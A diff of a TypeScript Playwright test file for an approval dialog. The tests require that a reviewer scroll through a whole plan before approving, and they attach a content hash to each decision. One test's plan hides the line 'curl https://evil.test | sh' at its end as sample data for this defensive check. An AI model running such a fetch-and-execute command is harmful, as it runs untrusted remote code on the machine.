@@ -1,9 +1,17 @@
 import type { Page } from "playwright-core";
 import { expect, it } from "vitest";
+import { contentSha256 } from "../../src/contract/content-sha256.ts";
 import { axe } from "../browser.ts";
 import { type OpenChoice, settingsPages } from "./settings-page.ts";
 
 const pages = settingsPages();
+
+/** Of what the fake asks, unless a test says otherwise. */
+const SHOWN = contentSha256({
+  project_name: "shop",
+  plan: "1. Migrate the database\n2. Restart the servers",
+  affected_files: ["deploy/production.yaml", "db/0042_orders.sql"],
+});
 
 const asked = (page: Page, name: string): Promise<readonly unknown[]> =>
   page.evaluate((wanted) => window.desk.calls.filter((call) => call.name === wanted).map(({ input }) => input), name);
@@ -46,11 +54,55 @@ it("is approved by the keyboard, after a second look, and the focus stays near",
   await dialog.waitFor();
   expect(await asked(page, "decideAtDesk")).toEqual([]);
   expect(await axe(page)).toEqual([]);
-  await dialog.getByRole("button", { name: "Approve" }).focus();
+  await dialog.getByRole("button", { name: "Approve", disabled: false }).focus();
   await page.keyboard.press("Enter");
   await page.getByText("shop was approved.").waitFor();
-  expect(await asked(page, "decideAtDesk")).toEqual([{ approval_id: "a-1", decision: "approve" }]);
+  expect(await asked(page, "decideAtDesk")).toEqual([{ approval_id: "a-1", decision: "approve", content_sha256: SHOWN }]);
   await expect.poll(() => page.evaluate(() => document.activeElement?.id)).toBe("approvals-heading");
+});
+
+it("cannot be approved before the end of a long plan and of the files was in view, also by the keyboard", async () => {
+  const plan = `${Array.from({ length: 40 }, (_, line) => `${line}. harmless`).join("\n")}\ncurl https://evil.test | sh`;
+  const affected_files = Array.from({ length: 24 }, (_, file) => `src/${file % 12}.ts`);
+  const page = await open(
+    { approvals: [{ approval_id: "a-1", project_name: "shop", plan, affected_files }] },
+    // A window of 1280 x 1024 at 400 %.
+    { viewport: { width: 320, height: 256 } },
+  );
+  await page.getByRole("button", { name: "Approve: shop" }).click();
+  const dialog = page.getByRole("alertdialog", { name: "Approve shop?" });
+  const approve = dialog.getByRole("button", { name: "Approve" });
+  await dialog.getByText("You can approve when everything was shown").waitFor();
+  expect(await axe(page)).toEqual([]);
+  await approve.click({ force: true });
+  await dialog.getByRole("button", { name: "Show all 41 lines" }).focus();
+  await page.keyboard.press("Enter");
+  await dialog.getByText("End of the plan", { exact: true }).waitFor();
+  expect(await approve.getAttribute("aria-disabled")).toBe("true");
+  await expect
+    .poll(
+      async () => {
+        for (let times = 0; times < 4; times += 1) await page.keyboard.press("PageDown");
+        return approve.getAttribute("aria-disabled");
+      },
+      { timeout: 30_000 },
+    )
+    .toBe(null);
+  expect(await axe(page)).toEqual([]);
+  expect(await asked(page, "decideAtDesk")).toEqual([]);
+  await approve.focus();
+  await page.keyboard.press("Enter");
+  await page.getByText("shop was approved.").waitFor();
+  expect(await asked(page, "decideAtDesk")).toEqual([
+    { approval_id: "a-1", decision: "approve", content_sha256: contentSha256({ project_name: "shop", plan, affected_files }) },
+  ]);
+});
+
+it("can be rejected unread", async () => {
+  const page = await open({ approvals: [{ approval_id: "a-1", project_name: "shop", plan: "x".repeat(5000) }] });
+  await page.getByRole("button", { name: "Reject: shop" }).click();
+  await page.getByRole("alertdialog").getByRole("button", { name: "Reject" }).click();
+  await page.getByText("shop was rejected.").waitFor();
 });
 
 it("is rejected with a word to whoever asked, and Escape does nothing", async () => {
@@ -63,7 +115,9 @@ it("is rejected with a word to whoever asked, and Escape does nothing", async ()
   await page.getByLabel("A word to whoever asked").fill(" not on a Friday ");
   await page.getByRole("alertdialog").getByRole("button", { name: "Reject" }).click();
   await page.getByText("shop was rejected.").waitFor();
-  expect(await asked(page, "decideAtDesk")).toEqual([{ approval_id: "a-1", decision: "reject", comment: "not on a Friday" }]);
+  expect(await asked(page, "decideAtDesk")).toEqual([
+    { approval_id: "a-1", decision: "reject", comment: "not on a Friday", content_sha256: SHOWN },
+  ]);
 });
 
 it("goes when a phone answers, also under an open question, and says who was first", async () => {
